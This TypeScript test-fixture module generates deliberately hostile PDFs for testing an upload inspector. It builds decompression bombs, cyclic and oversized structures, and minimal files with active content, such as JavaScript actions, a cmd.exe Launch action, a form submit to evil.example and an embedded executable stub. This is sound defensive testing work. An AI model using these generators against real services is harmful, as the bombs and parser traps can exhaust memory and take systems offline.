/**
 * Generators for the files of hostile case "Hostile upload", for tests and benches.
 * Each returns the bytes of one small file built by hand (no PDF library involved,
 * so the files are exactly as broken as intended).
 */

import { deflateSync } from 'node:zlib';

function assemble(objects: (string | Uint8Array)[], trailerExtra = '', options: { rootNum?: number } = {}): Uint8Array {
  const chunks: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  let length = chunks[0]!.length;
  const offsets: number[] = [];
  objects.forEach((body, i) => {
    offsets.push(length);
    const part = Buffer.concat([
      Buffer.from(`${i + 1} 0 obj\n`, 'latin1'),
      typeof body === 'string' ? Buffer.from(body, 'latin1') : Buffer.from(body),
      Buffer.from('\nendobj\n', 'latin1'),
    ]);
    chunks.push(part);
    length += part.length;
  });
  const xrefOffset = length;
  let xref = `xref\n0 ${objects.length + 1}\n0000000000 65535 f\r\n`;
  for (const offset of offsets) xref += `${String(offset).padStart(10, '0')} 00000 n\r\n`;
  xref += `trailer\n<</Size ${objects.length + 1}/Root ${options.rootNum ?? 1} 0 R${trailerExtra}>>\nstartxref\n${xrefOffset}\n%%EOF\n`;
  chunks.push(Buffer.from(xref, 'latin1'));
  return new Uint8Array(Buffer.concat(chunks));
}

const PAGE_CONTENT = 'BT /F1 24 Tf 72 720 Td (Hello) Tj ET';

/** A well-formed one-page PDF (the base of several hostile variants). */
export function minimalPdf(): Uint8Array {
  return assemble([
    '<</Type/Catalog/Pages 2 0 R>>',
    '<</Type/Pages/Kids[3 0 R]/Count 1>>',
    '<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>',
    `<</Length ${PAGE_CONTENT.length}>>\nstream\n${PAGE_CONTENT}\nendstream`,
    '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>',
  ]);
}

export function notAPdf(): Uint8Array {
  // A PNG signature followed by text: the kind of file a user picks by mistake.
  return new Uint8Array(Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.from('not a document at all\n')]));
}

export function encryptedPdf(): Uint8Array {
  const owner = '<' + 'a1'.repeat(32) + '>';
  const user = '<' + 'b2'.repeat(32) + '>';
  return assemble(
    [
      '<</Type/Catalog/Pages 2 0 R>>',
      '<</Type/Pages/Kids[3 0 R]/Count 1>>',
      '<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>>',
      `<</Filter/Standard/V 1/R 2/O${owner}/U${user}/P -44>>`,
    ],
    `/Encrypt 4 0 R/ID[<00112233445566778899aabbccddeeff><00112233445566778899aabbccddeeff>]`,
  );
}

/** A valid file cut off at `fraction` of its length (the end, with xref and %%EOF, is gone). */
export function truncatedPdf(fraction = 0.6): Uint8Array {
  const whole = minimalPdf();
  return whole.slice(0, Math.floor(whole.length * fraction));
}

/** The page tree's kid points back at its own parent. */
export function cyclicPageTreePdf(): Uint8Array {
  return assemble(['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[3 0 R]/Count 1>>', '<</Type/Pages/Parent 2 0 R/Kids[2 0 R]/Count 1>>']);
}

/** An object (here in the catalog) nested `depth` arrays deep. */
export function deeplyNestedPdf(depth = 100_000): Uint8Array {
  return assemble([
    `<</Type/Catalog/Pages 2 0 R/Nest ${'['.repeat(depth)}${']'.repeat(depth)}>>`,
    '<</Type/Pages/Kids[3 0 R]/Count 1>>',
    '<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>>',
  ]);
}

/** Claims two billion pages; holds one. */
export function hugePageCountPdf(count = 2_000_000_000): Uint8Array {
  return assemble(['<</Type/Catalog/Pages 2 0 R>>', `<</Type/Pages/Kids[3 0 R]/Count ${count}>>`, '<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>>']);
}

/**
 * The page tree lives in an object stream that inflates to `inflatedMegabytes` MB
 * (default 512; ≈ 1,000 : 1). The deflate data is written by hand as runs of
 * "repeat the last 258 bytes", so generating it costs no memory or time.
 */
export function objectStreamBombPdf(inflatedMegabytes = 512): Uint8Array {
  const pages = '<</Type/Pages/Kids[3 0 R]/Count 1>> <</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>> ';
  const header = `2 0 3 ${pages.indexOf('<</Type/Page/')} `;
  const content = header + pages;
  const deflated = zlibWithPadding(Buffer.from(content, 'latin1'), inflatedMegabytes * 1024 * 1024);

  const chunks: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  let length = chunks[0]!.length;
  const add = (text: string | Buffer) => {
    const buffer = typeof text === 'string' ? Buffer.from(text, 'latin1') : text;
    chunks.push(buffer);
    length += buffer.length;
  };
  const catalogOffset = length;
  add('1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n');
  const streamOffset = length;
  add(`4 0 obj\n<</Type/ObjStm/N 2/First ${header.length}/Filter/FlateDecode/Length ${deflated.length}>>\nstream\n`);
  add(deflated);
  add('\nendstream\nendobj\n');
  const xrefOffset = length;
  const rows = Buffer.alloc(6 * 7);
  const row = (i: number, type: number, field2: number, field3: number) => {
    rows[i * 7] = type;
    rows.writeUInt32BE(field2, i * 7 + 1);
    rows.writeUInt16BE(field3, i * 7 + 5);
  };
  row(0, 0, 0, 65535);
  row(1, 1, catalogOffset, 0);
  row(2, 2, 4, 0);
  row(3, 2, 4, 1);
  row(4, 1, streamOffset, 0);
  row(5, 1, xrefOffset, 0);
  add(`5 0 obj\n<</Type/XRef/Size 6/W[1 4 2]/Root 1 0 R/Length ${rows.length}>>\nstream\n`);
  add(rows);
  add(`\nendstream\nendobj\nstartxref\n${xrefOffset}\n%%EOF\n`);
  return new Uint8Array(Buffer.concat(chunks));
}

/** zlib data for `prefix` followed by spaces up to `total` bytes, with fixed Huffman codes. */
function zlibWithPadding(prefix: Buffer, total: number): Buffer {
  const out: number[] = [0x78, 0x01];
  let bitBuffer = 0;
  let bitCount = 0;
  const writeBits = (value: number, count: number) => {
    for (let i = 0; i < count; i++) {
      bitBuffer |= ((value >> i) & 1) << bitCount;
      bitCount++;
      if (bitCount === 8) {
        out.push(bitBuffer);
        bitBuffer = 0;
        bitCount = 0;
      }
    }
  };
  // Huffman codes go most significant bit first.
  const writeCode = (code: number, count: number) => {
    for (let i = count - 1; i >= 0; i--) writeBits((code >> i) & 1, 1);
  };
  const writeLiteral = (byte: number) => (byte < 144 ? writeCode(0x30 + byte, 8) : writeCode(0x190 + byte - 144, 9));
  writeBits(1, 1); // final block
  writeBits(1, 2); // fixed Huffman
  for (const byte of prefix) writeLiteral(byte);
  writeLiteral(0x20);
  let produced = prefix.length + 1;
  while (produced + 258 <= total) {
    writeCode(0xc5, 8); // length 258 (symbol 285)
    writeCode(0, 5); // distance 1
    produced += 258;
  }
  while (produced < total) {
    writeLiteral(0x20);
    produced++;
  }
  writeCode(0, 7); // end of block
  if (bitCount > 0) out.push(bitBuffer);
  const checksum = adler32(prefix, total - prefix.length, 0x20);
  out.push((checksum >>> 24) & 0xff, (checksum >>> 16) & 0xff, (checksum >>> 8) & 0xff, checksum & 0xff);
  return Buffer.from(out);
}

function adler32(prefix: Buffer, repeatCount: number, repeatByte: number): number {
  const MOD = 65521n;
  let a = 1n;
  let b = 0n;
  for (const byte of prefix) {
    a = (a + BigInt(byte)) % MOD;
    b = (b + a) % MOD;
  }
  // n copies of v: a' = a + n·v, b' = b + n·a + v·n(n+1)/2.
  const n = BigInt(repeatCount);
  const v = BigInt(repeatByte);
  const a2 = (a + n * v) % MOD;
  const b2 = (b + n * a + (v * n * (n + 1n)) / 2n) % MOD;
  return Number((b2 << 16n) | a2);
}

export const HOSTILE_PDFS = {
  'not-a-pdf': notAPdf,
  encrypted: encryptedPdf,
  truncated: truncatedPdf,
  'cyclic-page-tree': cyclicPageTreePdf,
  'object-stream-bomb': objectStreamBombPdf,
  'deeply-nested': deeplyNestedPdf,
  'two-billion-pages': hugePageCountPdf,
} as const;

// ---------------------------------------------------------------- inspector policy ("Active content upload", "Decoding bomb")

const BASE_CATALOG = '/Type/Catalog/Pages 2 0 R';
const BASE_PAGE = '/Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>';

/** A binary stream object body: the dictionary (without /Length) and its data. */
function stream(dictEntries: string, data: Uint8Array | string): Uint8Array {
  const bytes = typeof data === 'string' ? Buffer.from(data, 'latin1') : Buffer.from(data);
  return new Uint8Array(
    Buffer.concat([Buffer.from(`<<${dictEntries}/Length ${bytes.length}>>\nstream\n`, 'latin1'), bytes, Buffer.from('\nendstream', 'latin1')]),
  );
}

/**
 * The minimal one-page file with additions: entries for the catalog and the page, and
 * objects numbered from 6 on (so `6 0 R` is the first extra object).
 */
export function pdfWith({
  catalog = '',
  page = '',
  objects = [],
  trailer = '',
}: { catalog?: string; page?: string; objects?: (string | Uint8Array)[]; trailer?: string } = {}): Uint8Array {
  return assemble(
    [
      `<<${BASE_CATALOG}${catalog}>>`,
      '<</Type/Pages/Kids[3 0 R]/Count 1>>',
      `<<${BASE_PAGE}${page}>>`,
      `<</Length ${PAGE_CONTENT.length}>>\nstream\n${PAGE_CONTENT}\nendstream`,
      '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>',
      ...objects,
    ],
    trailer,
  );
}

const annotation = (subtype: string, extra = '') => `<</Type/Annot/Subtype/${subtype}/Rect[72 72 144 144]/P 3 0 R${extra}>>`;

/** Each kind of active content the inspector refuses, as the smallest file that has it. */
export const ACTIVE_CONTENT_PDFS = {
  'document JavaScript (OpenAction)': () => pdfWith({ catalog: '/OpenAction 6 0 R', objects: ['<</Type/Action/S/JavaScript/JS(app.alert\\(1\\))>>'] }),
  'JavaScript name tree': () =>
    pdfWith({ catalog: '/Names<</JavaScript 6 0 R>>', objects: ['<</Names[(a) 7 0 R]>>', '<</S/JavaScript/JS(app.alert\\(1\\))>>'] }),
  'page additional actions': () => pdfWith({ page: '/AA<</O<</S/JavaScript/JS(1)>>>>' }),
  'annotation JavaScript': () => pdfWith({ page: '/Annots[6 0 R]', objects: [annotation('Link', '/A<</S/JavaScript/JS(1)>>')] }),
  'form field action': () =>
    pdfWith({
      catalog: '/AcroForm<</Fields[6 0 R]>>',
      page: '/Annots[6 0 R]',
      objects: [annotation('Widget', '/FT/Tx/T(name)/AA<</K<</S/JavaScript/JS(1)>>>>')],
    }),
  'document additional actions': () => pdfWith({ catalog: '/AA<</WC<</S/JavaScript/JS(1)>>>>' }),
  launch: () => pdfWith({ page: '/Annots[6 0 R]', objects: [annotation('Link', '/A<</S/Launch/F(cmd.exe)>>')] }),
  'submit form': () => pdfWith({ page: '/Annots[6 0 R]', objects: [annotation('Link', '/A<</S/SubmitForm/F<</FS/URL/F(https://evil.example/)>>>>')] }),
  'import data': () => pdfWith({ page: '/Annots[6 0 R]', objects: [annotation('Link', '/A<</S/ImportData/F(data.fdf)>>')] }),
  'embedded file': () =>
    pdfWith({
      catalog: '/Names<</EmbeddedFiles<</Names[(x.exe) 6 0 R]>>>>',
      objects: ['<</Type/Filespec/F(x.exe)/EF<</F 7 0 R>>>>', stream('/Type/EmbeddedFile', 'MZ')],
    }),
  'file attachment annotation': () => pdfWith({ page: '/Annots[6 0 R]', objects: [annotation('FileAttachment', '/FS<</Type/Filespec/F(a.txt)>>')] }),
  XFA: () => pdfWith({ catalog: '/AcroForm<</Fields[]/XFA 6 0 R>>', objects: [stream('', '<xdp:xdp/>')] }),
  'rich media': () => pdfWith({ page: '/Annots[6 0 R]', objects: [annotation('RichMedia')] }),
  '3D': () => pdfWith({ page: '/Annots[6 0 R]', objects: [annotation('3D', '/3DD 7 0 R'), stream('/Type/3D/Subtype/U3D', 'U3D')] }),
  movie: () => pdfWith({ page: '/Annots[6 0 R]', objects: [annotation('Movie', '/Movie<</F(a.mov)>>')] }),
  sound: () => pdfWith({ page: '/Annots[6 0 R]', objects: [annotation('Sound')] }),
  rendition: () => pdfWith({ page: '/Annots[6 0 R]', objects: [annotation('Screen', '/A<</S/Rendition/OP 0>>')] }),
  'OpenAction other than GoTo': () => pdfWith({ catalog: '/OpenAction<</S/Named/N/Print>>' }),
} as const;

/** Signature machinery already present. */
export const SIGNATURE_MACHINERY_PDFS = {
  'signature field': () =>
    pdfWith({ catalog: '/AcroForm<</Fields[6 0 R]/SigFlags 3>>', page: '/Annots[6 0 R]', objects: [annotation('Widget', '/FT/Sig/T(Signature1)')] }),
  signature: () =>
    pdfWith({
      catalog: '/AcroForm<</Fields[6 0 R]>>',
      page: '/Annots[6 0 R]',
      objects: [annotation('Widget', '/FT/Sig/T(Signature1)/V 7 0 R'), `<</Type/Sig/Filter/Adobe.PPKLite/ByteRange[0 10 20 30]/Contents<${'00'.repeat(64)}>>>`],
    }),
  'DocMDP permissions': () =>
    pdfWith({ catalog: '/Perms<</DocMDP 6 0 R>>', objects: ['<</Type/Sig/Reference[<</TransformMethod/DocMDP/TransformParams<</P 1>>>>]>>'] }),
  FieldMDP: () =>
    pdfWith({
      catalog: '/AcroForm<</Fields[6 0 R]>>',
      page: '/Annots[6 0 R]',
      objects: [annotation('Widget', '/FT/Sig/T(S)/Lock<</Type/SigFieldLock/Action/All>>')],
    }),
  'usage rights (UR3)': () => pdfWith({ catalog: '/Perms<</UR3<</Reference[<</TransformMethod/UR3>>]>>>>' }),
} as const;

/** What is allowed: a plain GoTo on opening, and a link out (which the summary lists). */
export function allowedLinkPdf(): Uint8Array {
  return pdfWith({
    catalog: '/OpenAction[3 0 R/Fit]/Lang(de-DE)',
    page: '/Annots[6 0 R]',
    objects: [annotation('Link', '/A<</S/URI/URI(https://example.org/treaty)>>')],
  });
}

/** A valid file with one incremental update appended (its trailer's /Prev is the first xref). */
export function incrementallyUpdatedPdf(): Uint8Array {
  const base = Buffer.from(minimalPdf());
  const text = base.toString('latin1');
  const firstXref = Number(/startxref\n(\d+)/.exec(text)![1]);
  const objectOffset = base.length;
  const update = `3 0 obj\n<<${BASE_PAGE}/Rotate 90>>\nendobj\n`;
  const xrefOffset = objectOffset + update.length;
  const xref = `xref\n3 1\n${String(objectOffset).padStart(10, '0')} 00000 n\r\ntrailer\n<</Size 6/Root 1 0 R/Prev ${firstXref}>>\nstartxref\n${xrefOffset}\n%%EOF\n`;
  return new Uint8Array(Buffer.concat([base, Buffer.from(update + xref, 'latin1')]));
}

/** A file whose startxref points nowhere: readable only by scanning for objects (a repair). */
export function brokenXrefPdf(): Uint8Array {
  const text = Buffer.from(minimalPdf()).toString('latin1');
  return Buffer.from(text.replace(/startxref\n\d+/, 'startxref\n99999'), 'latin1');
}

/** zlib data for `megabytes` MB of spaces (a bomb of ≈ 1,000 : 1), costing no time to make. */
export function flateBomb(megabytes: number, prefix = ''): Buffer {
  return zlibWithPadding(Buffer.from(prefix, 'latin1'), megabytes * 1024 * 1024);
}

/** Codes of an LZW stream (EarlyChange 1) that decodes to ever longer runs of "a": ≈ 2,500 : 1 once the table is full. */
export function lzwBomb(codes = 20_000): Buffer {
  const out: number[] = [];
  let bits = 0;
  let count = 0;
  let width = 9;
  let nextCode = 258;
  const write = (code: number) => {
    bits = (bits << width) | code;
    count += width;
    while (count >= 8) {
      out.push((bits >>> (count - 8)) & 0xff);
      count -= 8;
    }
    bits &= (1 << count) - 1;
  };
  write(97);
  for (let i = 1; i < codes; i++) {
    const code = nextCode < 4096 ? nextCode : 4095;
    write(code);
    if (nextCode < 4096) nextCode++;
    if (nextCode + 1 >= 1 << width && width < 12) width++;
  }
  write(257);
  if (count > 0) out.push((bits << (8 - count)) & 0xff);
  return Buffer.from(out);
}

/** Streams that decode to far more than the file (the decoded-byte budget refuses them). */
export const DECODE_BOMB_PDFS = {
  'page content stream': () => pdfWith({ page: '/Contents 6 0 R', objects: [stream('/Filter/FlateDecode', flateBomb(64, 'BT ET '))] }),
  image: () =>
    pdfWith({
      page: '/Resources<</XObject<</Im1 6 0 R>>>>',
      objects: [stream('/Type/XObject/Subtype/Image/Width 8192/Height 8192/ColorSpace/DeviceRGB/BitsPerComponent 8/Filter/FlateDecode', flateBomb(64))],
    }),
  font: () =>
    pdfWith({
      page: '/Resources<</Font<</F2 6 0 R>>>>',
      objects: [
        '<</Type/Font/Subtype/TrueType/BaseFont/Bomb/FontDescriptor 7 0 R>>',
        '<</Type/FontDescriptor/FontName/Bomb/FontFile2 8 0 R>>',
        stream('/Filter/FlateDecode', flateBomb(64)),
      ],
    }),
  'object stream': () => objectStreamBombPdf(512),
  'xref stream': () => xrefStreamBombPdf(),
  'chain of filters (Flate over Flate, 1 GB page)': () =>
    pdfWith({ page: '/Contents 6 0 R', objects: [stream('/Filter[/FlateDecode/FlateDecode]', deflateSync(flateBomb(1024, 'BT ET ')))] }),
  LZW: () => pdfWith({ page: '/Contents 6 0 R', objects: [stream('/Filter/LZWDecode', lzwBomb())] }),
  'RunLength under Flate': () =>
    pdfWith({
      page: '/Contents 6 0 R',
      objects: [stream('/Filter[/FlateDecode/RunLengthDecode]', deflateSync(Buffer.alloc(8 * 1024 * 1024, Buffer.from([129, 0x20]))))],
    }),
} as const;

/** An xref stream whose compressed rows inflate to 512 MB: the reader meets it before anything else. */
export function xrefStreamBombPdf(): Uint8Array {
  const head = Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1');
  const objects = Buffer.from('1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n', 'latin1');
  const xrefOffset = head.length + objects.length;
  const data = flateBomb(512);
  const xref = Buffer.concat([
    Buffer.from(`2 0 obj\n<</Type/XRef/Size 3/W[1 4 2]/Root 1 0 R/Filter/FlateDecode/Length ${data.length}>>\nstream\n`, 'latin1'),
    data,
    Buffer.from(`\nendstream\nendobj\nstartxref\n${xrefOffset}\n%%EOF\n`, 'latin1'),
  ]);
  return new Uint8Array(Buffer.concat([head, objects, xref]));
}

/** A file whose cross-reference section names itself as /Prev. */
export function prevLoopPdf(): Uint8Array {
  const text = Buffer.from(minimalPdf()).toString('latin1');
  const xrefOffset = Number(/startxref\n(\d+)/.exec(text)![1]);
  return Buffer.from(text.replace('/Root 1 0 R>>', `/Root 1 0 R/Prev ${xrefOffset}>>`), 'latin1');
}

/** An xref stream whose dictionary promises `size` entries (or fields `width` bytes wide). */
export function hugeXrefStreamPdf({ size = 2_000_000_000, width = 4 }: { size?: number; width?: number } = {}): Uint8Array {
  const head = Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1');
  const objects = Buffer.from('1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n', 'latin1');
  const xrefOffset = head.length + objects.length;
  const data = deflateSync(Buffer.alloc(64));
  const xref = Buffer.concat([
    Buffer.from(`2 0 obj\n<</Type/XRef/Size ${size}/W[1 ${width} 2]/Root 1 0 R/Filter/FlateDecode/Length ${data.length}>>\nstream\n`, 'latin1'),
    data,
    Buffer.from(`\nendstream\nendobj\nstartxref\n${xrefOffset}\n%%EOF\n`, 'latin1'),
  ]);
  return new Uint8Array(Buffer.concat([head, objects, xref]));
}

/** A cross-reference table whose subsection claims `count` objects. */
export function tooManyObjectsPdf(count = 3_000_000_000): Uint8Array {
  const text = Buffer.from(minimalPdf()).toString('latin1');
  return Buffer.from(text.replace('/Size 6', `/Size ${count}`), 'latin1');
}

/** Structure loops and absurd sizes: refused before memory grows. */
export const STRUCTURE_LIMIT_PDFS = {
  '/Prev loop': prevLoopPdf,
  'xref stream /Size of two billion': () => hugeXrefStreamPdf({ size: 2_000_000_000 }),
  'xref stream /W of 1 GB fields': () => hugeXrefStreamPdf({ size: 3, width: 1_000_000_000 }),
  'three billion objects': () => tooManyObjectsPdf(),
  'JPEG image of 100,000 × 100,000 pixels': () =>
    pdfWith({
      page: '/Resources<</XObject<</Im1 6 0 R>>>>',
      objects: [stream('/Type/XObject/Subtype/Image/Width 100000/Height 100000/ColorSpace/DeviceRGB/BitsPerComponent 8/Filter/DCTDecode', '\xff\xd8\xff\xd9')],
    }),
} as const;

/**
 * Genuinely slow for a reader that searches for "endstream" when /Length is wrong: every
 * one of `count` streams lies about its length and the only "endstream" is at the end,
 * so each search runs to the end of the file (quadratic). Nothing in it breaks a limit.
 */
export function slowStreamSearchPdf(count = 30_000, padding = 120): Uint8Array {
  const objects: string[] = ['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[3 0 R]/Count 1>>', '<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>>'];
  const filler = 'x'.repeat(padding);
  for (let i = 0; i < count; i++) objects.push(`<</Length 999999999>>\nstream\n${filler}`);
  objects.push('<</Length 2>>\nstream\nok\nendstream');
  return assemble(objects);
}

/** Needs far more heap to read than its size: `count` dictionaries of `keys` distinct entries each. */
export function memoryHungryPdf(count = 60_000, keys = 40): Uint8Array {
  let entries = '';
  for (let k = 0; k < keys; k++) entries += `/K${k} ${k}`;
  const objects: string[] = ['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[3 0 R]/Count 1>>', '<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>>'];
  for (let i = 0; i < count; i++) objects.push(`<<${entries}/N ${i}>>`);
  return assemble(objects);
}
